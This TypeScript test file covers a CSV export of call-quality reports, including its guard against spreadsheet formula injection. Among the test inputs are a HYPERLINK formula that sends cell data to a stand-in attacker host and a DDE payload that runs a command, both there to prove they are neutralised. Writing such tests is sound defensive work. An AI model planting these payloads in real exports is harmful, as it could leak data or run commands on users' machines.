import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { accessTable, type Audience } from '../../../src/core/access';
import { reportCsv } from '../../../src/core/report/report-csv';
import { anyCall } from '../../support/any-call';
import { callQuality, documentationCallId, participant, stream } from '../../support/call-quality';
import { parseCsv } from '../../support/parse-csv';
import { badWifiCall } from '../../support/sample-calls/bad-wifi-call';

const operator = { audience: 'operatorPersonal' } as const;
const audiences = Object.keys(accessTable) as Audience[];
const header = [
  'callId',
  'version',
  'type',
  'startedAt',
  'endedAt',
  'stream',
  'media',
  'direction',
  'sender',
  'senderName',
  'receiver',
  'receiverName',
  'verdict',
  'reasons',
  'severity',
  'packets',
  'roundTripAverageMs',
  'roundTripMaxMs',
  'packetLossAverageRatio',
  'packetLossMaxRatio',
  'jitterAverageMs',
  'jitterMaxMs',
  'concealedSamplesAverageRatio',
  'concealedSamplesMaxRatio',
  'audioDegradationAverageMos',
  'frameLossAveragePercent',
  'frameRateAverageFps',
  'lossAfterFecAverageRatio',
  'videoPacketLossAverageRatio',
  'freezeAverageMs',
];
const firstNumber = header.indexOf('severity');

/** Rows as a spreadsheet has them, by column. */
function rowsOf(csv: string): readonly Readonly<Record<string, string>>[] {
  const [names = [], ...rows] = parseCsv(csv.slice(1));
  return rows.map((cells) => Object.fromEntries(names.map((name, n) => [name, cells[n] ?? 'missing'])));
}

describe('a call as CSV', () => {
  const call = callQuality({
    participants: [
      participant({ id: 'ann', name: 'Ann "Nan" Berg, Dr.' }),
      participant({ id: '+4915112345678', kind: 'phone' }),
    ],
    streams: [
      stream({
        key: 's1/main-audio/1',
        verdict: 'poor',
        reasons: ['jitter', 'packetLoss'],
        severity: 1.4,
        sender: 'ann',
        receiver: 'service',
        metrics: {
          jitter: { average: 42.5, max: 99 },
          packetLoss: { average: 0.12 },
          audioDegradation: { average: -0.5 },
          freeze: { max: 7 },
        },
      }),
      stream({ media: 'video', sender: '+4915112345678' }),
    ],
  });
  const csv = reportCsv(call, operator);

  it('is one row a stream, in the order of the report', () => {
    expect(rowsOf(csv)).toEqual([
      {
        ...Object.fromEntries(header.map((name) => [name, ''])),
        callId: documentationCallId,
        version: '1',
        type: 'groupCall',
        startedAt: '2026-05-06T07:08:09.000Z',
        endedAt: '2026-05-06T07:38:14.000Z',
        stream: 's1/main-audio/1',
        media: 'audio',
        direction: 'callerToCallee',
        sender: 'ann',
        senderName: 'Ann "Nan" Berg, Dr.',
        receiver: 'service',
        verdict: 'poor',
        reasons: 'jitter packetLoss',
        severity: '1.4',
        packets: '9000',
        jitterAverageMs: '42.5',
        jitterMaxMs: '99',
        packetLossAverageRatio: '0.12',
        audioDegradationAverageMos: '-0.5',
      },
      expect.objectContaining({ media: 'video', sender: "'+4915112345678", senderName: '' }),
    ]);
  });

  it('begins so that a spreadsheet knows it for UTF-8, and ends every line', () => {
    expect(csv.startsWith(`\ufeff${header.join(',')}\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it.each([
    ['a call without streams', { ...call, streams: [] }, operator],
    ['a call whose streams were not collected', callQuality(), operator],
    ['nobody', call, { audience: 'nobody' }],
  ] as const)('is the header only for %s', (_name, quality, view) => {
    expect(reportCsv(quality, view)).toBe(`\ufeff${header.join(',')}\r\n`);
  });

  it('has the columns that are described, in their order', () => {
    const description = readFileSync(join(__dirname, '../../../docs/export.md'), 'utf8');
    const described = [...description.matchAll(/^\| `(\w+)`/gm)].map(([, name]) => name);

    expect(described).toEqual(header);
  });
});

/** A text that a spreadsheet would take for a formula. */
const formula = /^[\s"'`‘’“”„«»\u200b]*[=+\-@−＝＋－＠]/u;

describe('text that a spreadsheet would take for a formula', () => {
  const cellOf = (name: string): string => {
    const participants = [participant({ id: 'ann', name })];
    const csv = reportCsv(callQuality({ participants, streams: [stream({ sender: 'ann' })] }), operator);
    return rowsOf(csv)[0]?.['senderName'] ?? 'missing';
  };

  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '+1',
    '-1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    '  =1',
    '\u00a0=1',
    '\u200b=1',
    '"=1',
    "'=1",
    '“=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '−1',
    '\ufeff=1',
    "=cmd|'/c calc'!A1",
  ])('%j gets an apostrophe', (name) => {
    expect(cellOf(name)).toBe(`'${name}`);
  });

  it.each([
    'Ann',
    'a=b',
    "O'Neil",
    'Ann-Marie',
    'me@example.com',
    '',
    '1+1',
    '"Ann"',
    'Ann, Ben',
    'a\r\nb',
    'д',
  ])('%j stays as it is', (name) => {
    expect(cellOf(name)).toBe(name);
  });

  it.each(['\t=1', 'x;=1+1', 'x\n=1', 'x\t@SUM(A1)', 'x; "=1', 'a";=1;"'])(
    '%j is none either where cells end at other marks',
    (name) => {
      const cells = cellOf(name).split(/[;\t\r\n]/);

      expect(cells.filter((cell) => formula.test(cell) && !cell.includes("'"))).toEqual([]);
    },
  );
});

describe('any call as CSV', () => {
  it('is a row a stream, of text that is no formula and of numbers', () => {
    fc.assert(
      fc.property(anyCall, fc.constantFrom(...audiences), (call, audience) => {
        const [, ...rows] = parseCsv(reportCsv(call, { audience }).slice(1));

        expect(rows).toHaveLength(audience === 'nobody' ? 0 : (call.streams ?? []).length);
        for (const cells of rows) {
          expect(cells).toHaveLength(header.length);
          const texts = cells.slice(0, firstNumber);
          const numbers = cells.slice(firstNumber);
          expect(texts.filter((cell) => formula.test(cell) && !cell.startsWith("'"))).toEqual([]);
          expect(numbers.filter((cell) => cell !== '' && !/^-?\d[\d.]*(?:e[+-]?\d+)?$/.test(cell))).toEqual(
            [],
          );
        }
      }),
    );
  });

  it('of the sample has every number of its streams', () => {
    const rows = rowsOf(reportCsv(badWifiCall, operator));

    expect(rows.map((row) => row['packets'])).toEqual(
      (badWifiCall.streams ?? []).map(({ packets }) => (packets === undefined ? '' : `${packets}`)),
    );
    expect(rows.length).toBeGreaterThan(0);
  });
});
